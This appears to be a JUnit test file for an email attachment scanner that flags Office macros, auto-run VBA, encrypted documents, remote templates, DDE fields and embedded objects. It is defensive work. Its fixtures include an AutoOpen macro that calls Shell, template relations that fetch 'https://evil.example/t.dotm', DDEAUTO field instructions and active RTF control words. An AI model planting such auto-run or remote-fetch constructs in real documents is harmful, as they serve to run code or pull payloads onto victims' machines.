package org.weir.content;

import static org.assertj.core.api.Assertions.assertThat;
import static org.weir.content.Attachment.look;
import static org.weir.content.Attachment.zip;

import java.nio.charset.StandardCharsets;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.weir.content.Link.Kind;

class OfficeTest {
  @Test
  void findsMacros() {
    assertThat(look("a.xlsm", Attachment.of("spamassassin-macro")).signs())
        .containsExactly(Sign.OFFICE_MACRO);
    assertThat(look("a.jpg", Attachment.of("spamassassin-renamedmacro")).signs())
        .containsExactly(Sign.TYPE_LIE, Sign.OFFICE_MACRO);
    assertThat(look("a.xlsx", office("xl/macrosheets/sheet1.xml", "x")).signs())
        .containsExactly(Sign.OFFICE_MACRO);
    assertThat(look("a.doc", compound("_VBA_PROJECT", "")).signs())
        .containsExactly(Sign.OFFICE_MACRO);
    assertThat(
            look("a.xls", compound("Workbook", record(0x85, "\0\0\0\0\0\1")))
                .detail(Sign.OFFICE_MACRO))
        .isEqualTo("Excel 4");
  }

  @Test
  void findsNothingInOrdinaryDocuments() {
    assertThat(look("a.xlsx", Attachment.of("spamassassin-nomacro")).marks()).isEmpty();
    assertThat(look("a.doc", compound("WordDocument", "x".repeat(32))).marks()).isEmpty();
    assertThat(look("a.xls", compound("Workbook", record(0x85, "\0\0\0\0\0\0"))).marks()).isEmpty();
    assertThat(look("a.rtf", "{\\rtf1 hello DDE}").marks()).isEmpty();
  }

  @Test
  void findsMacrosThatBeginByThemselves() {
    String source = "Attribute VB_Name = \"M\"\r\nSub AutoOpen()\r\nShell \"calc\"\r\nEnd Sub";

    assertThat(look("a.doc", compound("_VBA_PROJECT", module(source))).signs())
        .containsExactly(Sign.OFFICE_MACRO, Sign.OFFICE_AUTO_RUN);
    assertThat(
            look("a.doc", compound("_VBA_PROJECT", module(source.replace("Auto", "On")))).signs())
        .containsExactly(Sign.OFFICE_MACRO);
  }

  @Test
  void unpacksSourceWithRepetitions() {
    String start = "\0Attribut";
    String chunk = start + "\u0002e " + "\u0000P" + "x";
    assertThat(VbaSource.find(new Bytes(Attachment.bytes("\u0001" + header(chunk) + chunk))))
        .isEqualTo("Attribut" + "e".repeat(36) + "Px");
  }

  @Test
  void knowsDocumentsThatNeedAPassword() {
    assertThat(look("a.docx", Attachment.of("spamassassin-encrypted")).signs())
        .containsExactly(Sign.ENCRYPTED_DOCUMENT);
    assertThat(
            look("a.doc", compound("WordDocument", "\0".repeat(11) + "\1" + "\0".repeat(20)))
                .signs())
        .containsExactly(Sign.ENCRYPTED_DOCUMENT);
    assertThat(look("a.xls", compound("Workbook", record(0x2F, "\0\0"))).signs())
        .containsExactly(Sign.ENCRYPTED_DOCUMENT);
  }

  @ParameterizedTest
  @ValueSource(strings = {"attachedTemplate", "oleObject", "frame"})
  void findsWhatIsFetchedFromElsewhere(String type) {
    Attachment found =
        look(
            "a.docx",
            office("word/_rels/settings.xml.rels", relation(type, "https://evil.example/t.dotm")));

    assertThat(found.signs()).containsExactly(Sign.OFFICE_REMOTE);
    assertThat(found.links())
        .extracting(link -> link.target().host())
        .containsExactly("evil.example");
  }

  @Test
  void takesLinksForLinks() {
    Attachment found =
        look(
            "a.docx",
            office("word/_rels/document.xml.rels", relation("hyperlink", "https://a.example/x")));

    assertThat(found.marks()).isEmpty();
    assertThat(found.links()).extracting(Link::kind).containsExactly(Kind.ANCHOR);
    assertThat(
            look(
                    "a.docx",
                    office("word/_rels/a.rels", relation("attachedTemplate", "file:///C:/t.dotm")))
                .marks())
        .isEmpty();
  }

  @Test
  void findsFieldsThatStartPrograms() {
    String field = "<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\x</w:instrText>";

    assertThat(look("a.docx", office("word/document.xml", field)).signs())
        .containsExactly(Sign.OFFICE_REMOTE);
    assertThat(look("a.docx", office("word/document.xml", "<w:t>DDEAUTO</w:t>")).marks()).isEmpty();
  }

  @Test
  void findsPackedFiles() {
    byte[] packed = compound("\u0001Ole10Native", "x");

    assertThat(look("a.docx", office("word/embeddings/oleObject1.bin", packed)).signs())
        .containsExactly(Sign.OFFICE_OBJECT);
    assertThat(look("a.rtf", "{\\rtf1{\\object\\objemb{\\*\\objdata 01}}}").signs())
        .containsExactly(Sign.OFFICE_OBJECT);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "\\objupdate",
        "\\objocx",
        "{\\field{\\*\\fldinst DDEAUTO c}}",
        "{\\*\\template http://a.example/x}"
      })
  void findsRichTextThatActs(String words) {
    assertThat(look("a.doc", "{\\rtf1 " + words + "}").signs()).containsExactly(Sign.OFFICE_REMOTE);
  }

  private static byte[] office(String name, Object content) {
    return zip("[Content_Types].xml", "<Types/>", name, content);
  }

  private static String relation(String type, String target) {
    return "<Relationships><Relationship Id='a' Type='http://schemas.example/"
        + type
        + "' Target='"
        + target
        + "' TargetMode='External'/></Relationships>";
  }

  private static String record(int type, String data) {
    return (char) type + "\0" + (char) data.length() + "\0" + data;
  }

  /// Source in one chunk without repetitions.
  private static String module(String source) {
    StringBuilder chunk = new StringBuilder();
    for (int i = 0; i < source.length(); i += 8) {
      chunk.append('\0').append(source, i, Math.min(source.length(), i + 8));
    }
    return "\u0001" + header(chunk.toString()) + chunk;
  }

  private static String header(String chunk) {
    int header = 0xB000 | (chunk.length() - 1);
    return "" + (char) (header & 0xFF) + (char) (header >> 8);
  }

  /// A compound file with one stream, which lies in the small sectors.
  static byte[] compound(String name, String content) {
    StringBuilder file = new StringBuilder("\u00D0\u00CF\u0011\u00E0\u00A1\u00B1\u001A\u00E1");
    file.append("\0".repeat(40)).append(number(1)); // the directory, at 48
    file.append("\0".repeat(8)).append(number(2)); // the small FAT, at 60
    file.append("\0".repeat(12)).append(number(0)).append("\u00FF".repeat(4 * 108));
    // Sectors: 0 = FAT, 1 = directory, 2 = small FAT, 3 = small stream.
    file.append("\u00FD\u00FF\u00FF\u00FF")
        .append("\u00FE\u00FF\u00FF\u00FF".repeat(3))
        .append("\u00FF".repeat(496));
    file.append(entry("Root Entry", 5, 3, 512))
        .append(entry(name, 2, 0, content.length()))
        .append("\0".repeat(256));
    for (int i = 1; i <= 128; i++) {
      file.append(number(i));
    }
    return Attachment.bytes(file + content + "\0".repeat(512 - content.length()));
  }

  private static String entry(String name, int type, int start, int size) {
    String utf16 =
        new String(name.getBytes(StandardCharsets.UTF_16LE), StandardCharsets.ISO_8859_1);
    return utf16
        + "\0".repeat(64 - utf16.length())
        + (char) (utf16.length() + 2)
        + "\0"
        + (char) type
        + "\0".repeat(49)
        + number(start)
        + number(size)
        + "\0".repeat(4);
  }

  private static String number(int number) {
    return "" + (char) (number & 0xFF) + (char) (number >> 8 & 0xFF) + "\0\0";
  }
}
